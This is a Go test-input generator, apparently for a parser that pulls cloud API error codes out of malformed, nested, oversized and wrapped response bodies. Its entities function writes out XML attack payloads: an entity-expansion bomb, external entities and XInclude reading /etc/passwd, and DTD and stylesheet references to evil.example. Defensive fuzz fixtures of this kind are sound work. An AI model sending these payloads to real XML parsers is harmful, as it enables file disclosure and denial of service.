package hostile

import (
	"fmt"
	"strings"
)

// deep is nesting: of what a reader goes down into, and of texts in texts.
func (g *generator) deep() {
	body := jsonBody("%s", "x")
	for _, depth := range []int{200, 1000, 100_000} {
		at := func(name, open, inside, closing string) {
			code := g.code()
			in := g.add(fmt.Sprintf("%s-%d", name, depth), strings.Repeat(open, depth)+fmt.Sprintf(inside, code)+strings.Repeat(closing, depth))
			if depth <= 200 {
				in.codes, in.scanned = []string{code}, true
			}
		}
		at("json-objects", `{"a":`, body, "}")
		at("json-arrays", "[", body, "]")
		at("json-mixed", `[{"a":`, body, "}]")
		at("xml", "<a>", "<Error><Code>%s</Code><Message>x</Message></Error>", "</a>")
		at("json-unclosed", `{"a":`, body, "")
		g.add(fmt.Sprintf("html-%d", depth), "<table><tr><td>Code<td>Message"+strings.Repeat("<div><table><tr><td>", depth))
		g.add(fmt.Sprintf("quotes-%d", depth), strings.Repeat("> ", depth)+"ErrorCode: "+g.code())
		g.add(fmt.Sprintf("lists-%d", depth), strings.Repeat("- ", depth)+"|Code|Message|\n|-|-|\n|A.B|c|\n")
	}
	code := g.code()
	inner := jsonBody(code, "x")
	for level := 1; level <= 8; level++ {
		inner = `{"error":"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(inner) + `"}`
		in := g.add(fmt.Sprintf("json-in-json-string-%d", level), inner)
		if level <= 3 {
			in.codes = []string{code}
		}
	}
	g.add("xml-in-json", `{"body":"<Error><Code>`+code+`</Code><Message>x</Message></Error>"}`, code)
	g.add("json-in-xml", `<Fault><detail>{&quot;Code&quot;:&quot;`+code+`&quot;,&quot;Message&quot;:&quot;x&quot;}</detail></Fault>`)
}

// large is size, and what makes a careless reader start again at each byte.
func (g *generator) large() {
	const mib = 1 << 20
	for _, edge := range []int{4095, 4096, 65_535, 65_536, 65_537, 262_144, 524_288, mib} {
		code := g.code()
		g.addScanned(fmt.Sprintf("line-edge-%d", edge), strings.Repeat("x", edge)+"\n"+textBody(code, "x"), code)
	}
	for _, start := range []payload{
		{"braces", "{"}, {"brackets", "["}, {"angles", "<"}, {"quotes", `"`}, {"brace-quotes", `{"`}, {"escaped-braces", `{\"`}, {"tags", "<Code>"}, {"closing", "</Code>"}, {"cdata", "<![CDATA["}, {"comments", "<!--"},
		{"backslashes", `\`}, {"labels", "ErrorCode: "}, {"messages", "Message: "}, {"pairs", "a=b,"}, {"entities", "&amp;"}, {"refs", "&#27;"}, {"urls", "http://a/?"}, {"keys", "LTAI"}, {"tokens", "eyJ."},
		{"escapes", "\x1b]0;"}, {"lines", "\n"}, {"returns", "\r"}, {"bars", "|"}, {"dashes", "-"}, {"pluses", "+-"}, {"cells", "<td>"}, {"rows", "|Code|\n|-|\n"}, {"blanks", " "}, {"tabs", "\t"}, {"fences", "```\n"}, {"heads", "HTTP/1.1 404\n"},
	} {
		g.add(start.name+"-starts", strings.Repeat(start.text, mib/4/len(start.text)))
	}
	code := g.code()
	g.add("code-1MiB", `{"Code":"`+strings.Repeat("A", mib)+`"}`)
	g.add("code-1MiB-dotted", `{"Code":"`+strings.Repeat("Ab.", mib/3)+`"}`)
	g.add("code-1MiB-combining", `{"Code":"E`+strings.Repeat("\u0301", mib/2)+`"}`)
	g.add("code-1640", strings.Repeat("InvalidVip", 164))
	g.add("word-1MiB", strings.Repeat("aB", mib/2))
	g.addScanned("message-1MiB", jsonBody(code, strings.Repeat("word ", mib/5)), code)
	g.addScanned("message-1MiB-wide", jsonBody(code, strings.Repeat("文", mib/3)), code)
	g.addScanned("members-50000", `{"Code":"`+code+`"`+strings.Repeat(`,"a":1`, 50_000)+`}`, code)
	g.add("many-words", many(100_000, "Err.Nabc%d failed\n"))
	g.add("many-codes", many(3000, `{"Code":"Err.N%d","Message":"m"}`+"\n"))
	g.add("many-messages", many(3000, `{"Code":"`+code+`","Message":"m%d"}`+"\n"), code)
	g.add("many-in-text", many(3000, "ErrorCode: "+code+" Message: m%d\n"), code)
	g.add("one-code-many-times", strings.Repeat(code+" ", mib/len(code)), code)
	g.add("many-statuses", strings.Repeat("HTTP/1.1 503 Service Unavailable\n\n", 10_000))
	g.add("many-cells", "|Code|"+strings.Repeat("x|", 50_000)+"\n|"+strings.Repeat("-|", 50_001)+"\n")
	g.add("wide-span", `<table><tr><th colspan=1000000 rowspan=1000000>Code<th>Message<tr><td>A.B<td>c</table>`)
}

func many(n int, format string) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, format, i)
	}
	return b.String()
}

// entities are those of XML: none is expanded, nothing is fetched.
func (g *generator) entities() {
	bomb := "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\">\n"
	for c := 'b'; c <= 'k'; c++ {
		bomb += fmt.Sprintf("<!ENTITY %c \"%s\">\n", c, strings.Repeat(fmt.Sprintf("&%c;", c-1), 10))
	}
	for _, p := range []payload{
		{"laughs", bomb + "]>\n<Error><Code>%s</Code><Message>&k;</Message></Error>"},
		{"external", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>\n<Error><Code>%s</Code><Message>&e;</Message></Error>"},
		{"parameter", "<!DOCTYPE x [<!ENTITY %% p SYSTEM \"http://evil.example/x.dtd\"> %%p;]>\n<Error><Code>%s</Code><Message>x</Message></Error>"},
		{"dtd", "<!DOCTYPE x SYSTEM \"/etc/passwd\">\n<Error><Code>%s</Code><Message>x</Message></Error>"},
		{"xinclude", "<Error xmlns:xi=\"http://www.w3.org/2001/XInclude\"><Code>%s</Code><Message><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></Message></Error>"},
		{"stylesheet", "<?xml-stylesheet href=\"http://evil.example/x.xsl\"?>\n<Error><Code>%s</Code><Message>x</Message></Error>"},
		{"undefined", "<Error><Code>%s</Code><Message>&nbsp;&copy;&nosuch;&#xffffffff;&#-1;</Message></Error>"},
		{"recursive", "<!DOCTYPE x [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>\n<Error><Code>%s</Code><Message>&a;</Message></Error>"},
	} {
		code := g.code()
		g.addScanned(p.name, fmt.Sprintf(p.text, code), code)
	}
}

// keys are names that come twice, in other spellings, or are odd.
func (g *generator) keys() {
	for _, p := range []payload{
		{"dup-code", `{"Code":"%s","Code":"Other.Thing","Message":"x"}`}, {"dup-case", `{"Code":"%s","code":"","Message":"x"}`}, {"dup-message", `{"Code":"%s","Message":"first","Message":"second"}`},
		{"lower", `{"code":"%s","message":"x"}`}, {"upper", `{"CODE":"%s","MESSAGE":"x"}`}, {"upper-camel", `{"ErrorCode":"%s","ErrorMessage":"x"}`}, {"camel", `{"errorCode":"%s","errorMessage":"x"}`},
		{"empty", `{"":"","Code":"%s","Message":""}`}, {"proto", `{"__proto__":{"Code":"x"},"constructor":1,"Code":"%s","Message":"x"}`}, {"numbers", `{"1":1,"0":[],"Code":"%s","Message":"x"}`},
		{"unquoted", `{Code: %s, Message: x}`}, {"single-quotes", `{'Code': '%s', 'Message': 'x'}`}, {"trailing-comma", `{"Code":"%s","Message":"x",}`}, {"comments", "{/* c */\"Code\":\"%s\", // d\n\"Message\":\"x\"}"},
		{"dup-xml", `<Error><Code>%s</Code><Code>Other.Thing</Code><Message>x</Message></Error>`}, {"namespace", `<e:Error xmlns:e="urn:x"><e:Code>%s</e:Code><e:Message>x</e:Message></e:Error>`}, {"attributes", `<Error a="1" b='<Code>'><Code x="y">%s</Code><Message>x</Message></Error>`},
		{"two-roots", "<Error><Code>%s</Code><Message>x</Message></Error><Error></Error>"}, {"long-key", `{"` + strings.Repeat("k", 100_000) + `":1,"Code":"%s","Message":"x"}`},
	} {
		code := g.code()
		g.addScanned(p.name, fmt.Sprintf(p.text, code), code)
	}
}

// numbers where codes and statuses stand, and where they do not.
func (g *generator) numbers() {
	for _, n := range []string{
		strings.Repeat("9", 400), "1e999999999", "-1e-999999999", "1400.0", "-0", "0x578", "NaN", "Infinity", "1400e0", "9007199254740993", "18446744073709551616", "00001400", "1_400", "١٤٠٠", "１４００", "-1400", "",
	} {
		g.add("ret-code-"+n[:min(len(n), 20)], `{"ret_code":`+n+`,"message":"PermissionDenied, no"}`)
		code := g.code()
		g.addScanned("status-"+n[:min(len(n), 20)], `{"Code":"`+code+`","status":`+n+`,"Message":"x"}`, code)
	}
	g.add("ret-code", `{"ret_code":1400,"message":"PermissionDenied, no"}`, "1400")
	g.add("ret-code-string", `{"ret_code":"1400","message":"PermissionDenied, no"}`, "1400")
}

// wrappers are what bodies come in.
func (g *generator) wrappers() {
	for _, p := range []payload{
		{"ndjson-bad-line", "{\"a\":1}\n{broken\n\x00\x01\n{\"Code\":\"%s\",\"Message\":\"x\"}\n{\"b\"\n"}, {"jsonp", `callback({"Code":"%s","Message":"x"});`}, {"xssi", ")]}',\n{\"Code\":\"%s\",\"Message\":\"x\"}"},
		{"sse", "event: error\nid: 1\ndata: {\"Code\":\"%s\",\"Message\":\"x\"}\n\n"}, {"multipart", "--b\r\nContent-Type: application/json\r\n\r\n{\"Code\":\"%s\",\"Message\":\"x\"}\r\n--b--\r\n"},
		{"curl", "* Connected\n> GET / HTTP/1.1\n> Host: nas.cn-hangzhou.aliyuncs.com\n>\n< HTTP/1.1 404 Not Found\n< Content-Type: application/json\n<\n{\"Code\":\"%s\",\"Message\":\"x\"}\n* Closing"},
		{"http-lower", "HTTP/2 404\nx-acs-request-id: 1\ncontent-type: text/plain\n\n{\"Code\":\"%s\",\"Message\":\"x\"}"}, {"http-odd", "HTTP/9.9 999 \x1b[31m\nX: y\n\n{\"Code\":\"%s\",\"Message\":\"x\"}"}, {"http-chunked", "HTTP/1.1 400 Bad Request\r\nTransfer-Encoding: chunked\r\n\r\n40\r\n{\"Code\":\"%s\",\"Message\":\"x\"}\r\n0\r\n\r\n"},
		{"html-page", "<html><head><title>502 Bad Gateway</title></head><body><pre>{\"Code\":\"%s\",\"Message\":\"x\"}</pre></body></html>"}, {"html-escaped", "<pre>{&quot;Code&quot;:&quot;%s&quot;,&quot;Message&quot;:&quot;x&quot;}</pre>"},
		{"python", "b'{\"Code\":\"%s\",\"Message\":\"x\\\\xe9\"}\\n'"}, {"go", `&errors.ServerError{httpStatus:404, errorCode:"%s", message:"x"}`}, {"java", "Caused by: com.aliyuncs.exceptions.ServerException: %s : gone\r\nRequestId : 1\r\n\tat a.b.C.d(E.java:1)"},
		{"terraform", "╷\n│ Error: x\n│ ErrorCode: %s\n│ Message: y\n╵\n"}, {"klog", `E0101 00:00:00.000000 1 x.go:1] "failed" err="ErrorCode: %s, Message: y"`}, {"docker", "app-1  | ErrorCode: %s Message: y\n"}, {"logfmt", `time=1 level=error msg="ErrorCode: %s Message: y"`},
		{"mail", "> > ErrorCode: %s\n> > Message: y\n"}, {"soap", `<s:Envelope xmlns:s="x"><s:Body><s:Fault><faultcode>s:Server</faultcode><detail><Error><Code>%s</Code><Message>x</Message></Error></detail></s:Fault></s:Body></s:Envelope>`},
		{"har", `{"log":{"entries":[{"response":{"status":404,"content":{"text":"{\"Code\":\"%s\",\"Message\":\"x\"}"}}}]}}`}, {"junk-around", "junk }]\" ' < {{{ {\"Code\":\"%s\",\"Message\":\"x\"} >>> ]}\" junk"},
	} {
		code := g.code()
		g.addScanned(p.name, fmt.Sprintf(p.text, code), code)
	}
	for _, empty := range []string{"", "\n", " ", "{}", "[]", "null", `""`, "<a/>", "{", "<", "-", "--", "@", "0"} {
		g.add(fmt.Sprintf("nothing-%x", empty), empty)
	}
}

// truncated bodies end anywhere; a code that is complete is still found. Every
// byte is tried in TestCutBodiesAreExplained.
func (g *generator) truncated() {
	for i, body := range cutBodies() {
		for at := 20 + i; at < len(body.text); at += 37 {
			in := g.add(fmt.Sprintf("%s-%d", body.name, at), body.text[:at])
			if at >= body.complete {
				in.codes = []string{body.code}
			}
		}
	}
}
